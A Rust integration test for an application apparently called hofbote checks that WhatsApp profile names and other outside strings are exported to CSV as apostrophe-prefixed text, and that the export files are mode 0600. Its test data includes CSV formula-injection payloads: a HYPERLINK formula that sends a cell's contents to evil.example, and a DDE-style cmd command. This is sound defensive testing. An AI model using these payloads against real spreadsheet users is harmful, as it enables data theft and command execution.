//! Strings from outside — WhatsApp profile names, message texts, cells of an imported file — through the real binary:
//! they reach CSV files as text, never as spreadsheet formulas, and files with personal data are 0600
//! (issue 12 §2).

use std::os::unix::fs::PermissionsExt;
use std::time::Duration;

use serde_json::json;

use crate::support::{ServeProcess, TempHome, wait_until};

const SECRET: &str = "hostile-secret";
const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?"&B2,"Rabatt")"#;

fn anmelden(from: &str, wamid: &str, profile_name: &str) -> Vec<u8> {
    serde_json::to_vec(&json!({"object": "whatsapp_business_account", "entry": [{"id": "1", "changes": [{"field": "messages",
        "value": {"messaging_product": "whatsapp", "metadata": {"phone_number_id": "1"},
            "contacts": [{"profile": {"name": profile_name}, "wa_id": from}],
            "messages": [{"from": from, "id": wamid, "timestamp": "1764234000", "type": "text", "text": {"body": "ANMELDEN"}}]}}]}]}))
    .unwrap()
}

fn customers(home: &TempHome) -> i64 {
    let conn = rusqlite::Connection::open(home.db()).unwrap();
    conn.busy_timeout(Duration::from_secs(5)).unwrap();
    conn.query_row("SELECT count(*) FROM customers", [], |r| r.get(0)).unwrap()
}

#[test]
fn a_formula_as_whatsapp_profile_name_is_exported_as_text_in_a_0600_file() {
    let home = TempHome::new();
    let serve = ServeProcess::start(&home, SECRET, None);
    for (i, name) in [HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "+49 170 EVIL"].iter().enumerate() {
        let answer =
            serve.post(&anmelden(&format!("4917112345{i:02}"), &format!("wamid.H{i}"), name), Duration::from_secs(10));
        assert!(answer.as_deref().is_ok_and(|a| a.starts_with("HTTP/1.1 200")), "{answer:?}\n{}", serve.log());
    }
    assert!(wait_until(Duration::from_secs(20), || customers(&home) == 4), "sign-ups not applied: {}", serve.log());
    drop(serve);

    let out = home.path().join("kunden.csv");
    // An older export with a wide mode is tightened too.
    std::fs::write(&out, "alt").unwrap();
    std::fs::set_permissions(&out, std::fs::Permissions::from_mode(0o644)).unwrap();
    home.ok(&["customers", "export", out.to_str().unwrap()]);
    assert_eq!(std::fs::metadata(&out).unwrap().permissions().mode() & 0o777, 0o600);
    let text = std::fs::read_to_string(&out).unwrap();
    let listed = home.ok(&["customers", "list", "--format", "csv"]);
    for csv in [&text, &listed] {
        let mut reader = csv::ReaderBuilder::new().from_reader(csv.as_bytes());
        let names: Vec<String> = reader.records().map(|r| r.unwrap()[0].to_owned()).collect();
        assert_eq!(names.len(), 4, "{csv}");
        for name in &names {
            assert!(name.starts_with('\''), "a formula cell without its apostrophe: {name:?}\n{csv}");
        }
        assert!(names.contains(&format!("'{HYPERLINK}")), "{names:?}");
        // The phone numbers are text too (a spreadsheet would drop the + and show 4,9E+11).
        assert!(csv.contains(",'+4917112345"), "{csv}");
    }
    // hofbote reads its own export back: nothing to change, nothing rejected.
    let again = home.ok(&["customers", "import", out.to_str().unwrap()]);
    assert!(again.contains("unverändert:   4") && again.contains("abgelehnt:     0"), "{again}");
}
